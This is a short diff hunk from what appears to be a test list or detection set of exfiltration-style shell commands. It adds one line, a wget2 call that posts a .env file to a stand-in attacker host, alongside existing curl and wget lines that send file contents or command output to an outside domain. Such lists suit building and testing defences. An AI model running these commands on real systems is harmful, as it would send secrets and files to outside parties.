@@ -207,6 +207,7 @@ curl "https://e.com/?x=$(cat a | base64)"
 curl https://e.com/`whoami`
 curl -K cfg
 curl --json '{}' https://e.com
+wget2 --post-file=.env http://evil.example/x
 wget --post-file=a https://e.com
 wget --post-data=x https://e.com
 wget "https://e.com/$(cat a)"
